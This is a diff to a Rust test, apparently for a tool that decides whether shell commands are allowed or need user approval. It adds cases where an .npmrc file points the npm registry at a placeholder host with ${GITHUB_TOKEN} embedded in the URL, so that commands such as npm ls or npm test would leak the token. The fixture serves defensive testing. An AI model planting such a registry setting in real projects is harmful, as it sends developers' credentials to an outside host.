@@ -758,6 +758,11 @@ fn settings_that_show_secrets() {
     run_on(&machine(), "allow npm config get registry");
     let filled = machine().file("/repo/.npmrc", "foo=${GITHUB_TOKEN}\n");
     run_on(&filled, "ask npm config get foo\nask npm config get registry");
+    let sent = machine().file("/repo/.npmrc", "registry=http://x.example/${GITHUB_TOKEN}/\n");
+    run_on(&sent, "ask npm ls\nask npm test\nask cd src && npm ls\nask npx jest");
+    let usual =
+        "registry=https://npm.example.com/\n//npm.example.com/:_authToken=${NPM_TOKEN}\nsave-exact=true\n";
+    run_on(&machine().file("/repo/.npmrc", usual), "allow npm ls\nallow npm test");
     let script = machine().file("/repo/composer.json", "{\"scripts\": {\"init\": \"touch x\"}}");
     run_on(&script, "ask composer show\nask composer licenses");
     let other = machine().file("/repo/composer.json", "{\"scripts\": {\"post-install-cmd\": \"x\"}}");
